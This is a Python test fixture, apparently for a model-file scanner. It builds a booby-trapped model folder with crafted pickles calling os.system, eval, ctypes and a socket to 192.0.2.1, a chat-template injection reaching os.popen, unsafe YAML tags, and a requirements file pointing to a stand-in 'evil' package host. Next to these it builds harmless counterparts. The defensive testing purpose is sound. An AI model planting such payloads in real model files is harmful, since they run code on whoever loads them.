# SPDX-License-Identifier: Apache-2.0
"""A model in which everything would run something, if anything of it were run.

Each file imports a module that does not exist elsewhere, so that a look that imports is told from one
that reads; see `tests.watch.TRAP`.
"""

import bz2
import gzip
import io
import json
import lzma
import pickle
import tarfile
import zipfile
import zlib
from pathlib import Path

from tests.watch import TRAP

COMMAND = "touch steelyard-ran"
CALLS = {
    "system.pkl": b"cos\nsystem\n(S'" + COMMAND.encode() + b"'\ntR.",
    "trap.pkl": f"c{TRAP}\nrun\n)R.".encode(),
    "instance.pkl": f"(S'{COMMAND}'\ni{TRAP}\nrun\n.".encode(),
    "eval.pkl": b"cbuiltins\neval\n(S'1+1'\ntR.",
    "build.pkl": f"c{TRAP}\nThing\n)\x81}}b.".encode("latin-1"),
    "loads.pkl": b"cpickle\nloads\n(S'cos\\ngetpid\\n)R.'\ntR.",
    "dlopen.pkl": b"cctypes\nCDLL\n(S'libc.so.6'\ntR.",
    "socket.pkl": b"csocket\ncreate_connection\n((S'192.0.2.1'\nI80\nttR.",
}
TEMPLATE = "{{ cycler.__init__.__globals__.os.popen('" + COMMAND + "').read() }}"
CODE = f"import os\nimport {TRAP}\nos.system('{COMMAND}')\n\nclass Model: pass\n"


def write(folder: Path) -> Path:
    """Write the model and return its folder."""
    folder.mkdir(parents=True, exist_ok=True)
    for name, data in _files().items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    return folder


def _files() -> dict[str, bytes]:
    call = CALLS["trap.pkl"]
    files = dict(CALLS)
    files |= {f"protocol{n}.pkl": bytes([0x80, n]) + call for n in range(2, 6)}
    files |= {
        "pytorch_model.bin": _zip({"archive/data.pkl": call, "archive/version": b"3\n"}),
        "harmless.dat": _zip({"x/data.pkl": _zip({"inner.pkl": call})}),
        "weights.tar": _tar({"pickle": call}),
        "weights.pkl.gz": gzip.compress(call),
        "weights.pkl.bz2": bz2.compress(call),
        "weights.pkl.xz": lzma.compress(call),
        "weights.pkl.z": zlib.compress(call),
        "objects.npy": _npy(call),
        "objects.npz": _zip({"a.npy": _npy(call)}),
        "config.json": _json({"auto_map": {"AutoModel": "modeling_trap.Model"}, "model_type": "x"}),
        "tokenizer_config.json": _json({"chat_template": TEMPLATE}),
        "chat_template.jinja": TEMPLATE.encode(),
        "modeling_trap.py": CODE.encode(),
        "setup.py": CODE.encode(),
        f"{TRAP}.py": CODE.encode(),
        "config.yaml": f"_target_: os.system\na: !!python/object/apply:{TRAP}.run []\n".encode(),
        "README.md": f"---\nlicense: !!python/name:{TRAP}.run\n---\n# {TEMPLATE}\n".encode(),
        "requirements.txt": b"--index-url http://192.0.2.1/simple\nevil @ http://192.0.2.1/e.whl\n",
    }
    return files


def _zip(members: dict[str, bytes]) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name), data)
    return file.getvalue()


def _tar(members: dict[str, bytes]) -> bytes:
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return file.getvalue()


def _npy(data: bytes) -> bytes:
    head = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }\n"
    return b"\x93NUMPY\x01\x00" + len(head).to_bytes(2, "little") + head + data


def _json(value: object) -> bytes:
    return json.dumps(value).encode()


def write_benign(folder: Path) -> Path:
    """Write a harmless model with a file of each of those kinds, and return its folder."""
    folder.mkdir(parents=True, exist_ok=True)
    plain = pickle.dumps({"a": [1, 2.5]}, 2)
    template = "{% for m in messages %}{{ m['content'] | trim }}{% endfor %}"
    files = {
        "values.pkl": plain,
        "model.zip": _zip({"a/data.pkl": plain}),
        "weights.tar": _tar({"a.pkl": plain}),
        **{f"v.{kind}": pack(plain) for kind, pack in _PACKERS.items()},
        "a.npy": _npy(pickle.dumps([None], 2)),
        "config.json": _json({"model_type": "llama", "auto_map": {"AutoModel": "m.Model"}}),
        "tokenizer_config.json": _json({"chat_template": template}),
        "chat_template.jinja": template.encode(),
        "m.py": b"import torch\n\nclass Model(torch.nn.Module):\n    pass\n",
        "config.yaml": b"_target_: torch.nn.Linear\nin_features: 2\n",
        "README.md": b"---\nlicense: apache-2.0\n---\n# A model\n",
        "requirements.txt": b"torch>=2\n",
    }
    for name, data in files.items():
        (folder / name).write_bytes(data)
    return folder


_PACKERS = {"gz": gzip.compress, "bz2": bz2.compress, "xz": lzma.compress, "z": zlib.compress}
